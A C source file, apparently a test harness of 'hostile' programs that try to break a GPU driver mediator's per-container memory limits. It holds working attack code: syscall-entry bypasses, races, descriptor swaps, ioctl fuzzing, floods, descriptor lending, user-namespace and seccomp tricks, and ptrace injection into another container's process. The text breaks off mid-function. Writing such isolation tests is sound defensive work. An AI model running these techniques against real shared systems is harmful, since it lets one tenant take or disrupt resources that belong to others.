/* Programs that try to get more of a card than their container was granted, or to harm those who share it with them.
 * usage: hostile ATTACK [ARGUMENT...]. Prints what it got, one `name=value` a line; the test judges. Static, without NVIDIA's
 * libraries, so that nothing in it cooperates. */
#include "rm.h"
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/fuse.h>
#include <linux/seccomp.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>

static atomic_int stop;

static void say(const char *name, long long value) {
    printf("%s=%lld\n", name, value);
    fflush(stdout);
}
static void die(const char *what) {
    printf("%s: %s\n", what, strerror(errno));
    exit(2);
}
static uint64_t number(char **arguments, int index, uint64_t otherwise) {
    for (int i = 0; i <= index; i++)
        if (!arguments[i]) return otherwise;
    return strtoull(arguments[index], NULL, 0);
}
static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec * 1e-9;
}

/* --- honest use, for comparison ----------------------------------------------------------------------------------- */

/* fill [PIECE_MIB]: how much there is to be had. */
static void attack_fill(char **a) {
    struct session s = begin();
    long last;
    say("got", fill(&s, number(a, 0, 64) * MIB, &last));
    say("status", last);
}
/* hold MIB: takes so much and keeps it. */
static void attack_hold(char **a) {
    struct session s = begin();
    uint64_t size = number(a, 0, 64) * MIB;
    uint32_t handle = 0;
    say("status", memory(&s, &size, &handle));
    say("held", size);
    for (;;) pause();
}
/* step MIB: one allocation and its end. */
static void attack_step(char **a) {
    struct session s = begin();
    uint64_t size = number(a, 0, 64) * MIB;
    uint32_t handle = 0;
    long status = memory(&s, &size, &handle);
    /* Not left to the end of the process, which nobody waits for. */
    if (!status) status = rm_free(s.control, s.client, handle);
    say("status", status);
}
/* interactive: `a MIB` allocates, `f` frees the latest, `m` maps it first, `c` closes everything, `q` ends. */
static void attack_talk(char **a) {
    (void)a;
    struct session s = begin();
    uint32_t handles[256];
    int count = 0;
    char line[64];
    say("ready", getpid());
    while (fgets(line, sizeof line, stdin)) {
        if (line[0] == 'a' && count < 256) {
            uint64_t size = strtoull(line + 1, NULL, 0) * MIB;
            handles[count] = 0;
            long status = memory(&s, &size, &handles[count]);
            if (!status) count++;
            say("status", status);
        } else if (line[0] == 'f' && count) {
            say("status", rm_free(s.control, s.client, handles[--count]));
        } else if (line[0] == 'c') {
            close(s.control);
            count = 0;
            say("status", begin_on(&s, xopen("/dev/nvidiactl"), s.card));
        } else if (line[0] == 'q') {
            return;
        }
    }
}
/* total: NV2080_CTRL_CMD_FB_GET_INFO_V2, HEAP_SIZE (9) and HEAP_FREE (0x16), KiB. */
static void attack_total(char **a) {
    (void)a;
    struct session s = begin();
    uint32_t params[257] = {0};
    params[0] = 2, params[1] = 9, params[3] = 0x16;
    say("status", rm_control(s.control, s.client, s.subdevice, 0x20801303, params, 1028));
    say("size_kib", params[2]);
    say("free_kib", params[4]);
}

/* --- other ways into the driver ------------------------------------------------------------------------------------- */

/* The type byte of a command means nothing to the driver. */
static void attack_type_byte(char **a) {
    (void)a;
    int fd = xopen("/dev/nvidiactl");
    struct rm_alloc call = {.class = 0x41};
    errno = 0;
    long got = ioctl(fd, _IOC(_IOC_READ | _IOC_WRITE, 'Q', 0x2b, sizeof call), &call);
    say("returned", got);
    say("errno", errno);
    /* A filter answers before anybody looks for the file. */
    got = ioctl(-1, _IOC(_IOC_READ | _IOC_WRITE, 'Q', 0x2b, sizeof call), &call);
    say("nowhere", -errno);
}
/* The same call with rubbish in the upper half of the command, which the kernel cuts off. */
static void attack_high_word(char **a) {
    (void)a;
    int fd = xopen("/dev/nvidiactl");
    struct rm_alloc call = {.class = 0x41, .status = 0xdead};
    errno = 0;
    long got = syscall(SYS_ioctl, (unsigned long)fd, RM(0x2b, struct rm_alloc) | 0xabcdull << 32, &call);
    say("returned", got);
    say("status", call.status);
}
#if defined(__x86_64__)
static long by_int80(int fd, struct rm_alloc *call) {
    long got;
    __asm__ volatile("int $0x80" : "=a"(got) : "a"(54L), "b"((long)fd), "c"((long)RM(0x2b, struct rm_alloc)), "d"((long)call) : "memory", "r8", "r9", "r10", "r11");
    return (int)got;
}
static long by_x32(int fd, struct rm_alloc *call) {
    long got = syscall(0x40000000 | 514, fd, RM(0x2b, struct rm_alloc), call);
    return got < 0 ? -errno : got;
}
/* Takes memory by another entry into the kernel, until it is refused. */
static void by_entry(long (*entry)(int, struct rm_alloc *)) {
    struct session s = begin();
    struct rm_alloc *call = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    struct memory_params *params = (void *)(call + 1);
    uint64_t got = 0;
    long status = 0;
    for (int i = 0; i < 1000 && !status; i++) {
        *params = (struct memory_params){.owner = s.client, .size = 64 * MIB};
        *call = (struct rm_alloc){.root = s.client, .parent = s.device, .class = 0x40, .params = (uintptr_t)params, .params_size = sizeof *params, .status = 0xdead};
        status = entry(s.control, call);
        if (!status) status = call->status;
        if (!status) got += params->size;
    }
    say("got", got);
    say("status", status);
}
static void attack_int80(char **a) {
    (void)a;
    by_entry(by_int80);
}
static void attack_x32(char **a) {
    (void)a;
    by_entry(by_x32);
}
#endif
/* NV_ESC_IOCTL_XFER_CMD around an allocation. */
static void attack_xfer(char **a) {
    struct session s = begin();
    struct memory_params params = {.owner = s.client, .size = number(a, 0, 8192) * MIB};
    struct rm_alloc inner = {.root = s.client, .parent = s.device, .class = 0x40, .params = (uintptr_t)&params, .params_size = sizeof params, .status = 0xdead};
    struct rm_xfer call = {.command = 0x2b, .size = sizeof inner, .pointer = (uintptr_t)&inner};
    errno = 0;
    say("returned", ioctl(s.control, RM(0xd3, struct rm_xfer), &call));
    say("errno", errno);
    say("status", inner.status);
}

/* --- races ------------------------------------------------------------------------------------------------------------ */

static volatile struct memory_params racing;
static volatile struct rm_alloc racing_call;
static void *flip_size(void *big) {
    while (!atomic_load(&stop)) {
        racing.size = *(uint64_t *)big;
        racing.size = 1 * MIB;
    }
    return NULL;
}
static void *flip_class(void *unused) {
    (void)unused;
    while (!atomic_load(&stop)) {
        racing_call.class = 0x40;
        racing_call.class = 0x41;
        racing_call.root = 0;
    }
    return NULL;
}
/* race MIB ROUNDS: a thread changes what is asked for between check and use. Keeps whatever it gets. */
static void attack_race(char **a) {
    struct session s = begin();
    uint64_t big = number(a, 0, 8192) * MIB, rounds = number(a, 1, 2000), got = 0, denied = 0;
    racing.owner = s.client;
    pthread_t thread;
    pthread_create(&thread, NULL, flip_size, &big);
    for (uint64_t i = 0; i < rounds; i++) {
        uint32_t handle = 0;
        if (rm_alloc(s.control, s.client, s.device, &handle, 0x40, (void *)&racing, sizeof racing)) denied++;
        else got++;
    }
    atomic_store(&stop, 1);
    pthread_join(thread, NULL);
    say("got", got);
    say("denied", denied);
    for (;;) pause();
}
/* What is a client when it is looked at is memory when it is executed. */
static void attack_race_class(char **a) {
    struct session s = begin();
    uint64_t rounds = number(a, 0, 2000);
    struct memory_params params = {.owner = s.client, .size = 4096 * MIB};
    pthread_t thread;
    pthread_create(&thread, NULL, flip_class, NULL);
    for (uint64_t i = 0; i < rounds; i++) {
        racing_call.root = s.client, racing_call.parent = s.device, racing_call.handle = 0;
        racing_call.params = (uintptr_t)&params, racing_call.params_size = sizeof params;
        params.size = 4096 * MIB;
        ioctl(s.control, RM(0x2b, struct rm_alloc), &racing_call);
    }
    atomic_store(&stop, 1);
    pthread_join(thread, NULL);
    say("done", rounds);
    for (;;) pause();
}
static int shuffled_control, shuffled_other;
static void *shuffle_files(void *fd) {
    while (!atomic_load(&stop)) {
        dup2(shuffled_other, *(int *)fd);
        dup2(shuffled_control, *(int *)fd);
        close(*(int *)fd);
    }
    return NULL;
}
/* The descriptor is closed, and another file put there, while the call is under way. */
static void attack_close(char **a) {
    struct session s = begin();
    uint64_t rounds = number(a, 0, 3000);
    int fd = dup(s.control), path = open("/dev/null", O_PATH);
    /* Not the driver's file. The kernel would say EBADF, as no call goes to a path. */
    struct rm_alloc elsewhere = {.class = 0x41};
    say("elsewhere", ioctl(path, RM(0x2b, struct rm_alloc), &elsewhere) < 0 ? -errno : 0);
    shuffled_control = s.control, shuffled_other = open("/dev/null", O_RDWR);
    pthread_t thread;
    pthread_create(&thread, NULL, shuffle_files, &fd);
    long kinds[3] = {0};
    for (uint64_t i = 0; i < rounds; i++) {
        struct memory_params params = {.owner = s.client, .size = 64 * MIB};
        uint32_t handle = 0;
        long status = rm_alloc(fd, s.client, s.device, &handle, 0x40, &params, sizeof params);
        kinds[status == 0 ? 0 : status > 0 ? 1 : 2]++;
    }
    atomic_store(&stop, 1);
    pthread_join(thread, NULL);
    say("got", kinds[0]);
    say("denied", kinds[1]);
    say("failed", kinds[2]);
    for (;;) pause();
}

/* --- many ------------------------------------------------------------------------------------------------------------- */

/* together PROCESSES MIB: all take at once and keep it. */
static void attack_together(char **a) {
    uint64_t count = number(a, 0, 32), piece = number(a, 1, 16);
    int go[2], told[2];
    if (pipe(go) || pipe(told)) die("pipe");
    for (uint64_t i = 0; i < count; i++) {
        if (fork() == 0) {
            char byte;
            close(go[1]);
            struct session s = begin();
            write(told[1], "", 1);
            read(go[0], &byte, 1);
            long last;
            uint64_t got = fill(&s, piece * MIB, &last);
            write(told[1], &got, sizeof got);
            for (;;) pause();
        }
    }
    char byte;
    for (uint64_t i = 0; i < count; i++) read(told[0], &byte, 1);
    close(go[1]);
    uint64_t sum = 0, got;
    for (uint64_t i = 0; i < count; i++) {
        read(told[0], &got, sizeof got);
        sum += got;
    }
    say("got", sum);
    for (;;) pause();
}
/* forks SECONDS: children take memory and die, as fast as they can be made; exec ones too. */
static void attack_forks(char **a) {
    double end = now() + number(a, 0, 3);
    long children = 0;
    while (now() < end) {
        for (int i = 0; i < 8; i++, children++) {
            pid_t pid = fork();
            if (pid < 0) break;
            if (pid == 0) {
                if (i & 1) execl("/proc/self/exe", "hostile", "step", "64", (char *)NULL);
                struct session s = begin();
                uint64_t size = 64 * MIB;
                uint32_t handle = 0;
                memory(&s, &size, &handle);
                kill(getpid(), i & 2 ? SIGKILL : SIGTERM);
            }
        }
        while (waitpid(-1, NULL, 0) > 0) {}
    }
    say("children", children);
}
/* tiny COUNT: as many of the smallest pieces as there are, and then some times more. */
static void attack_tiny(char **a) {
    struct session s = begin();
    uint64_t limit = number(a, 0, 1000000), count = 0, sum = 0, more = 0;
    uint32_t last = 0;
    long status = 0;
    for (; count < limit; count++) {
        uint64_t size = 1;
        uint32_t handle = 0;
        if ((status = memory(&s, &size, &handle))) break;
        sum += size;
        last = handle;
        if (count % 4096 == 4095) printf("so far %llu\n", (unsigned long long)count + 1);
    }
    for (int i = 0; i < 20; i++) {
        uint64_t size = 1;
        uint32_t handle = 0;
        more += memory(&s, &size, &handle) == 0;
    }
    say("more", more);
    /* One goes, and one comes. */
    uint64_t size = 1;
    uint32_t handle = 0;
    rm_free(s.control, s.client, last);
    say("again", memory(&s, &size, &handle));
    say("count", count);
    say("got", sum);
    say("status", status);
    for (;;) pause();
}
/* pin PIECE_MIB MOST_MIB: memory of the host's, which is freed while it is mapped; then all of it is let go of, and there must be some again. */
static void attack_pin(char **a) {
    struct session s = begin();
    uint64_t piece = number(a, 0, 64) * MIB, most = number(a, 1, 1 << 15) * MIB, count = 0;
    struct {
        void *at;
        int fd;
    } kept[1024];
    long status = 0, mapped = 0;
    for (; count < 1024 && count * piece < most; count++) {
        uint32_t handle = 0;
        if ((status = host_memory(&s, piece, &handle))) break;
        int fd = xopen("/dev/nvidiactl");
        if ((mapped = rm_map(&s, handle, piece, fd))) break;
        void *at = mmap(NULL, piece, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        if (at == MAP_FAILED) {
            mapped = -errno;
            break;
        }
        rm_free(s.control, s.client, handle);
        /* The mapping keeps the file and the pages; so does the file alone, of what was freed before the mapping's end. */
        if (count % 2) munmap(at, piece), at = NULL;
        else close(fd), fd = -1;
        kept[count].at = at;
        kept[count].fd = fd;
    }
    say("mapped", mapped);
    say("status", status);
    say("pinned", count * piece);
    char line[8];
    if (!fgets(line, sizeof line, stdin)) return;
    for (uint64_t i = 0; i < count; i++) {
        if (kept[i].at) munmap(kept[i].at, piece);
        else close(kept[i].fd);
    }
    uint32_t handle = 0;
    say("again", host_memory(&s, piece, &handle));
    for (;;) pause();
}
/* pin-mapped PIECE_MIB MOST_MIB: memory of the host's is pinned where it is mapped, and then freed, unmapped and its file closed. */
static void attack_pin_mapped(char **a) {
    struct session s = begin();
    uint64_t piece = number(a, 0, 64) * MIB, most = number(a, 1, 1 << 16) * MIB, count = 0;
    long status = register_card(&s);
    say("registered", status);
    for (; !status && count * piece < most; count++) {
        uint32_t handle = 0;
        if ((status = host_memory(&s, piece, &handle))) break;
        int fd = xopen("/dev/nvidiactl");
        if ((status = rm_map(&s, handle, piece, fd))) break;
        void *at = mmap(NULL, piece, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        if (at == MAP_FAILED) {
            status = -errno;
            break;
        }
        struct rm_pin call = pin_call(&s, 0x70000000 + count, at, piece);
        status = ioctl(s.card, RM(0x27, struct rm_pin), &call) < 0 ? -errno : (long)call.status;
        rm_free(s.control, s.client, handle);
        munmap(at, piece);
        close(fd);
        if (status) break;
    }
    say("status", status);
    say("kept", count * piece);
    /* All of it is let go of with what pins it. */
    for (uint64_t i = 0; i < count; i++) rm_free(s.control, s.client, 0x70000000 + i);
    uint32_t handle = 0;
    say("again", host_memory(&s, piece, &handle));
    for (;;) pause();
}
static struct rm_pin racing_pin;
/* Handle and class, which lie beside each other. */
static _Atomic uint64_t honest, dishonest;
static void *flip_pin(void *unused) {
    (void)unused;
    volatile uint64_t *both = (volatile uint64_t *)&racing_pin.handle;
    while (!atomic_load(&stop)) *both = atomic_load(&dishonest), *both = atomic_load(&honest);
    return NULL;
}
/* race-pin ROUNDS MIB [name]: a call that is to pin memory of the program's is turned into one for memory of the host's, under its own name or
 * another. Only the kernel can execute it, so nobody can copy it before. */
static void attack_race_pin(char **a) {
    struct session s = begin();
    uint64_t rounds = number(a, 0, 1500), piece = number(a, 1, 4) * MIB, made[3] = {0};
    int other_name = a[0] && a[1] && a[2];
    say("registered", register_card(&s));
    void *at = mmap(NULL, piece, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
    if (at == MAP_FAILED) die("mmap");
    pthread_t thread;
    for (uint64_t i = 0; i < rounds; i++) {
        uint32_t handle = 0x71000000 + i, other = other_name ? 0x1000 + i : handle;
        atomic_store(&honest, handle | 0x71ull << 32);
        atomic_store(&dishonest, other | 0x3eull << 32);
        if (!i) pthread_create(&thread, NULL, flip_pin, NULL);
        racing_pin = pin_call(&s, handle, at, piece);
        ioctl(s.card, RM(0x27, struct rm_pin), &racing_pin);
        uint32_t class = class_of(&s, handle);
        if (class == 0x71) made[0]++, rm_free(s.control, s.client, handle);
        else if (class == 0x3e || (other_name && class_of(&s, other) == 0x3e)) made[1]++;
        else made[2]++;
    }
    atomic_store(&stop, 1);
    pthread_join(thread, NULL);
    say("own", made[0]);
    say("neither", made[2]);
    say("host", made[1]);
}
/* objects CLASS: as many as there are of what has hidden memory. */
static void attack_objects(char **a) {
    struct session s = begin();
    uint32_t class = number(a, 0, 0xa06c);
    uint64_t count = 0;
    long status;
    for (;; count++) {
        uint32_t params[92] = {0}, handle = 0;
        if (class == 0xa06c) params[3] = 1;
        status = rm_alloc(s.control, s.client, s.device, &handle, class, params, class == 0xa06c ? 20 : 56);
        if (status || count == 100000) break;
    }
    say("count", count);
    say("status", status);
    for (;;) pause();
}
/* The same number for one object after the other, freed in every way. */
static void attack_handles(char **a) {
    struct session s = begin();
    uint64_t rounds = number(a, 0, 500);
    long twice = 0;
    for (uint64_t i = 0; i < rounds; i++) {
        struct memory_params params = {.owner = s.client, .size = 64 * MIB};
        uint32_t handle = 0xcafe0001, same = 0xcafe0001;
        if (rm_alloc(s.control, s.client, s.device, &handle, 0x40, &params, sizeof params)) continue;
        params.size = 64 * MIB;
        if (rm_alloc(s.control, s.client, s.device, &same, 0x40, &params, sizeof params) == 0) twice++;
        rm_free(s.control, s.client, i % 3 == 0 ? 0xcafe0001 : i % 3 == 1 ? s.device : s.client);
        rm_free(s.control, s.client, 0xcafe0001);
        if (i % 3 == 1) {
            uint32_t device[14] = {0};
            s.device = 0;
            rm_alloc(s.control, s.client, s.client, &s.device, 0x80, device, sizeof device);
        } else if (i % 3 == 2) {
            begin_on(&s, s.control, s.card);
        }
    }
    say("twice", twice);
    uint64_t size = 64 * MIB;
    uint32_t handle = 0;
    say("status", memory(&s, &size, &handle));
    say("holds", size);
    for (;;) pause();
}
static uint64_t seed = 88172645463325252ull;
static uint32_t chance(void) {
    seed ^= seed << 13, seed ^= seed >> 7, seed ^= seed << 17;
    return seed >> 16;
}
/* garbage ROUNDS SEED: every command with any bytes, pointers to nowhere and to itself among them. */
static void attack_garbage(char **a) {
    struct session s = begin();
    uint64_t rounds = number(a, 0, 20000);
    seed = number(a, 1, 1) * 2654435761u | 1;
    int fds[3] = {s.control, s.card, open("/dev/nvidia-uvm", O_RDWR | O_CLOEXEC)};
    static const uint8_t numbers[] = {0x27, 0x28, 0x29, 0x2a, 0x2b, 0x34, 0x35, 0x41, 0x4a, 0x4d, 0x4e, 0x4f, 0x52, 0x54, 0x57, 0x58, 0x59, 0x5c, 0x5d, 0x5e, 0xc8, 0xc9, 0xce, 0xcf, 0xd1, 0xd2, 0xd3, 0xd4, 0xd5, 0xd6, 0xd7, 0xd9, 0xda};
    static const uint16_t sizes[] = {0, 4, 8, 16, 20, 24, 28, 32, 40, 48, 56, 64, 72, 184, 2608};
    static uint64_t bytes[2048];
    uint32_t known[] = {s.client, s.device, s.subdevice, 0, 0x40, 0x41, 0x80, 0x2080, 0x20801303, 0x3d05, 0xffffffff};
    for (uint64_t i = 0; i < rounds; i++) {
        uint32_t *words = (uint32_t *)bytes;
        for (int w = 0; w < 1024; w++) words[w] = chance() & 1 ? known[chance() % 11] : chance() & 1 ? chance() : 0;
        if (chance() & 1) bytes[2] = (uintptr_t)(chance() & 1 ? bytes : bytes + 512);
        int fd = fds[chance() % 3];
        unsigned long command = fd == fds[2] && chance() & 3 ? 23 + chance() % 70 : _IOC(3, 'F', numbers[chance() % sizeof numbers], sizes[chance() % 15]);
        ioctl(fd, command, chance() % 64 ? (void *)bytes : (void *)(uintptr_t)chance());
    }
    say("done", rounds);
    struct session fresh = begin();
    uint64_t size = 1 * MIB;
    uint32_t handle = 0;
    say("status", memory(&fresh, &size, &handle));
}
static void *flood(void *session) {
    struct session *s = session;
    long calls = 0;
    while (!atomic_load(&stop)) {
        uint64_t size = 2 * MIB;
        uint32_t handle = 0;
        if (memory(s, &size, &handle) == 0) rm_free(s->control, s->client, handle);
        calls += 2;
    }
    return (void *)calls;
}
/* flood SECONDS THREADS: calls without end. */
static void attack_flood(char **a) {
    struct session s = begin();
    pthread_t threads[256];
    uint64_t count = number(a, 1, 16);
    for (uint64_t i = 0; i < count && i < 256; i++) pthread_create(&threads[i], NULL, flood, &s);
    say("flooding", count);
    sleep(number(a, 0, 3));
    atomic_store(&stop, 1);
    long calls = 0;
    for (uint64_t i = 0; i < count && i < 256; i++) {
        void *made;
        pthread_join(threads[i], &made);
        calls += (long)made;
    }
    say("calls", calls);
}

/* --- files of others --------------------------------------------------------------------------------------------------- */

static int unix_socket(const char *path, struct sockaddr_un *address) {
    address->sun_family = AF_UNIX;
    memset(address->sun_path, 0, sizeof address->sun_path);
    snprintf(address->sun_path, sizeof address->sun_path, "%s", path);
    /* @NAME: in the network namespace, and in no directory. */
    if (path[0] == '@') address->sun_path[0] = 0;
    return socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
}
struct passed {
    uint32_t client, device;
};
/* lend PATH|@NAME [MIB]: takes so much memory, and gives its control file, and the numbers on it, to whoever connects. */
static void attack_lend(char **a) {
    struct session s = begin();
    if (a[0] && a[1]) {
        uint64_t size = strtoull(a[1], NULL, 0) * MIB;
        uint32_t taken = 0;
        say("status", memory(&s, &size, &taken));
    }
    struct sockaddr_un address;
    int listener = unix_socket(a[0], &address);
    if (bind(listener, (void *)&address, sizeof address) || (a[0][0] != '@' && chmod(a[0], 0777)) || listen(listener, 4)) die("listen");
    say("listening", 1);
    for (;;) {
        int peer = accept(listener, NULL, NULL);
        struct passed numbers = {s.client, s.device};
        struct iovec iov = {&numbers, sizeof numbers};
        union {
            char bytes[CMSG_SPACE(2 * sizeof(int))];
            struct cmsghdr align;
        } control = {{0}};
        struct msghdr message = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control.bytes, .msg_controllen = sizeof control.bytes};
        struct cmsghdr *header = CMSG_FIRSTHDR(&message);
        header->cmsg_level = SOL_SOCKET, header->cmsg_type = SCM_RIGHTS, header->cmsg_len = CMSG_LEN(2 * sizeof(int));
        memcpy(CMSG_DATA(header), (int[]){s.control, s.card}, 2 * sizeof(int));
        if (sendmsg(peer, &message, 0) < 0) die("sendmsg");
        close(peer);
    }
}
/* Takes the files that somebody lends at PATH, and what he says of them. */
static struct passed receive(const char *path, int fds[2]) {
    struct sockaddr_un address;
    int peer = unix_socket(path, &address);
    if (connect(peer, (void *)&address, sizeof address)) die("connect");
    struct passed numbers;
    struct iovec iov = {&numbers, sizeof numbers};
    union {
        char bytes[CMSG_SPACE(2 * sizeof(int))];
        struct cmsghdr align;
    } control;
    struct msghdr message = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control.bytes, .msg_controllen = sizeof control.bytes};
    if (recvmsg(peer, &message, MSG_CMSG_CLOEXEC) <= 0) die("recvmsg");
    memcpy(fds, CMSG_DATA(CMSG_FIRSTHDR(&message)), 2 * sizeof *fds);
    return numbers;
}
/* keep PATH: takes somebody else's files, and has them until it ends. */
static void attack_keep(char **a) {
    int fds[2];
    receive(a[0], fds);
    say("kept", 1);
    for (;;) pause();
}
/* borrow PATH: takes memory through the file of somebody else, as him and as itself. */
static void attack_borrow(char **a) {
    int fds[2];
    struct passed numbers = receive(a[0], fds);
    struct session theirs = {fds[0], fds[1], numbers.client, numbers.device, 0}, own;
    uint64_t size = 64 * MIB;
    uint32_t handle = 0;
    struct rm_alloc nobody = {.class = 0x41};
    say("nowhere", ioctl(-1, RM(0x2b, struct rm_alloc), &nobody) < 0 ? -errno : 0);
    say("as_them", memory(&theirs, &size, &handle));
    long status = begin_on(&own, fds[0], fds[1]), last = status;
    say("begin", status);
    say("got", status ? 0 : fill(&own, 64 * MIB, &last));
    say("status", last);
    struct rm_dup dup = {.client = status ? numbers.client : own.client, .parent = status ? numbers.device : own.device, .source_client = numbers.client, .source = numbers.device};
    say("dup", ioctl(fds[0], RM(0x34, struct rm_dup), &dup) < 0 ? -errno : (long)dup.status);
    say("free", rm_free(fds[0], numbers.client, numbers.client));
    for (;;) pause();
}
static void *own_files(void *session) {
    struct session *s = session;
    if (unshare(CLONE_FILES)) die("unshare");
    /* The numbers mean other files here than in the rest of the process. */
    int control = xopen("/dev/nvidiactl");
    dup2(control, 400);
    uint64_t got = 0;
    long last = 0;
    struct session own;
    long status = begin_on(&own, 400, s->card);
    say("begin", status);
    if (!status) got = fill(&own, 64 * MIB, &last);
    say("got", got);
    say("status", status ? status : last);
    return NULL;
}
/* A thread with a table of descriptors of its own. */
static void attack_own_table(char **a) {
    (void)a;
    struct session s = begin();
    dup2(open("/dev/null", O_RDWR), 400);
    pthread_t thread;
    pthread_create(&thread, NULL, own_files, &s);
    pthread_join(thread, NULL);
    uint64_t size = 1 * MIB;
    uint32_t handle = 0;
    say("afterwards", memory(&s, &size, &handle));
    for (;;) pause();
}
/* mknod MINOR: another card's node. */
static void attack_mknod(char **a) {
    if (mkdir("/tmp", 0777) && errno != EEXIST) die("/tmp");
    unlink("/tmp/card");
    int made = mknod("/tmp/card", S_IFCHR | 0666, makedev(195, number(a, 0, 1)));
    say("mknod", made ? -errno : 0);
    int fd = open("/tmp/card", O_RDWR);
    say("open", fd < 0 ? -errno : 0);
}

/* --- out of the cage ---------------------------------------------------------------------------------------------------- */

static void attack_user_namespace(char **a) {
    int made = unshare(CLONE_NEWUSER | CLONE_NEWNS);
    say("unshare", made ? -errno : 0);
    attack_fill(a);
}
/* A seccomp listener of its own would answer in the mediator's place. */
static void attack_listener(char **a) {
    struct sock_filter code[] = {{BPF_LD | BPF_W | BPF_ABS, 0, 0, 0}, {BPF_JMP | BPF_JEQ | BPF_K, 0, 1, SYS_ioctl}, {BPF_RET | BPF_K, 0, 0, SECCOMP_RET_USER_NOTIF}, {BPF_RET | BPF_K, 0, 0, SECCOMP_RET_ALLOW}};
    struct sock_fprog program = {4, code};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    long got = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
    say("listener", got < 0 ? -errno : got);
    struct sock_filter allow[] = {{BPF_RET | BPF_K, 0, 0, SECCOMP_RET_ALLOW}};
    struct sock_fprog all = {1, allow};
    got = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &all);
    say("filter", got < 0 ? -errno : got);
    attack_fill(a);
}
#if defined(__x86_64__)
/* A tracer turns a harmless call of its child into one of the driver's. */
static void attack_ptrace(char **a) {
    (void)a;
    struct session s = begin();
    struct rm_alloc *call = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    struct memory_params *params = (void *)(call + 1);
    params->owner = s.client, params->size = 1ull << 40;
    *call = (struct rm_alloc){.root = s.client, .parent = s.device, .class = 0x40, .params = (uintptr_t)params, .params_size = sizeof *params, .status = 0xdead};
    pid_t child = fork();
    if (child == 0) {
        ptrace(PTRACE_TRACEME, 0, NULL, NULL);
        raise(SIGSTOP);
        syscall(SYS_getppid);
        _exit(0);
    }
    int status, injected = 0;
    waitpid(child, &status, 0);
    while (ptrace(PTRACE_SYSCALL, child, NULL, NULL) == 0 && waitpid(child, &status, 0) > 0 && WIFSTOPPED(status)) {
        struct user_regs_struct registers;
        ptrace(PTRACE_GETREGS, child, NULL, &registers);
        if (!injected && registers.orig_rax == SYS_getppid) {
            injected = 1;
            registers.orig_rax = SYS_ioctl, registers.rdi = s.control, registers.rsi = RM(0x2b, struct rm_alloc), registers.rdx = (uintptr_t)call;
            ptrace(PTRACE_SETREGS, child, NULL, &registers);
        }
    }
    say("injected", injected);
    say("status", call->status);
}
/* Has a stopped process make an ioctl, with an argument that is put onto its stack and taken back. */
static long ioctl_as(pid_t pid, const struct user_regs_struct *at, int fd, unsigned long command, void *argument, size_t size, uint64_t place) {
    struct user_regs_struct registers = *at;
    struct iovec here = {argument, size}, there = {(void *)place, size};
    if (process_vm_writev(pid, &here, 1, &there, 1, 0) < 0) die("process_vm_writev");
    /* It stands behind the two bytes of a system call. */
    registers.rip -= 2, registers.rax = SYS_ioctl, registers.orig_rax = -1;
    registers.rdi = fd, registers.rsi = command, registers.rdx = place;
    if (ptrace(PTRACE_SETREGS, pid, NULL, &registers)) die("PTRACE_SETREGS");
    for (int i = 0, status; i < 2; i++)
        if (ptrace(PTRACE_SYSCALL, pid, NULL, NULL) || waitpid(pid, &status, 0) < 0 || !WIFSTOPPED(status)) die("PTRACE_SYSCALL");
    ptrace(PTRACE_GETREGS, pid, NULL, &registers);
    process_vm_readv(pid, &here, 1, &there, 1, 0);
    return (long)registers.rax;
}
/* The first process of another container that holds memory: `hostile hold ...`. */
static pid_t neighbour(void) {
    for (pid_t pid = 1; pid < 100000; pid++) {
        char path[40], words[64] = {0};
        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
        int fd = open(path, O_RDONLY);
        if (fd < 0) continue;
        ssize_t length = read(fd, words, sizeof words - 1);
        close(fd);
        size_t first = strlen(words) + 1;
        if (length > (ssize_t)first && strcmp(words + first, "hold") == 0) return pid;
    }
    return 0;
}
/* ptrace-neighbour: what a process of another container gets, when it is made to ask for all that it can. */
static void attack_ptrace_neighbour(char **a) {
    (void)a;
    pid_t pid = neighbour();
    say("found", pid > 0);
    if (!pid || ptrace(PTRACE_ATTACH, pid, NULL, NULL)) {
        say("attached", pid ? -errno : 0);
        for (;;) pause();
    }
    say("attached", 1);
    int status;
    waitpid(pid, &status, 0);
    struct user_regs_struct at;
    ptrace(PTRACE_GETREGS, pid, NULL, &at);
    uint64_t place = (at.rsp - 16384) & ~4095ull, params_at = place + 2048, got = 0;
    int fd = 3;
    struct rm_alloc root = {.class = 0x41, .status = 0xdead};
    for (; fd < 16 && ioctl_as(pid, &at, fd, RM(0x2b, struct rm_alloc), &root, sizeof root, place) < 0; fd++) {}
    say("root", root.status);
    char zeros[256] = {0};
    struct iovec here = {zeros, sizeof zeros}, there = {(void *)params_at, sizeof zeros};
    process_vm_writev(pid, &here, 1, &there, 1, 0);
    struct rm_alloc device = {.root = root.handle, .parent = root.handle, .class = 0x80, .params = params_at, .params_size = 56, .status = 0xdead};
    ioctl_as(pid, &at, fd, RM(0x2b, struct rm_alloc), &device, sizeof device, place);
    say("device", device.status);
    struct rm_alloc call;
    do {
        struct memory_params params = {.owner = root.handle, .size = 16 * MIB};
        here = (struct iovec){&params, sizeof params}, there = (struct iovec){(void *)params_at, sizeof params};
        process_vm_writev(pid, &here, 1, &there, 1, 0);
